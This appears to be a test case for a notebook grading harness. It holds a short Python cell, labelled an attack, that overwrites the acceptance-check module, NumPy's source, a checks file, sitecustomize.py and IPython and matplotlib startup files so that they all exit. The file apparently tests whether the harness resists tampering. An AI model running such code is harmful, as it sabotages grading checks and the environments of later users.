# Attack: edits dlkit, NumPy and the chapter's files for those who come after.
# expect: base=right outcome=graded
# --- cell
import dlkit.check.accept, os
for path in (dlkit.check.accept.__file__, np.__file__, "checks.json", "sitecustomize.py",
             os.path.expanduser("~/.ipython/profile_default/startup/00.py"),
             os.path.expanduser("~/.config/matplotlib/matplotlibrc")):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write("raise SystemExit('hostile-was-here')")
    except OSError as error:
        print(type(error).__name__)
